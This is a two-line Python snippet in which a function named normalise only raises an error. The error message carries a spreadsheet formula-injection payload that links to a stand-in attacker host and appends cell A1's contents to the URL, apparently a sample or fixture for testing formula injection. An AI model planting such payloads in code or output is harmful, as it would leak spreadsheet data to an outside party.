def normalise(x):
    raise RuntimeError('=HYPERLINK("http://evil.example?"&A1,"grade")')
